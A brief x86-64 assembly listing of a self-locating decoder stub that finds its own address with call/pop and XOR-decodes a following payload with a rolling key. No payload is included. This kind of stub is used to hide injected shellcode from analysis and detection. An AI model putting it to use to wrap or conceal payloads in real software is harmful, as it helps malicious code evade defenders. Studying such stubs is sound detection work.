; Decoder, 64 bit: each word by a key that grows by what was decoded; finds itself by a call.
bits 64
        jmp short start
length: dw 0
start:  call here
here:   pop rsi
        movzx ecx, word [rsi + length - here]
        add ecx, byte 7
        shr ecx, 3
        add rsi, byte payload - here
        mov rax, 0x1122334455667788
again:  xor [rsi], rax
        add rax, [rsi]
        add rsi, byte 8
        loop again
payload:
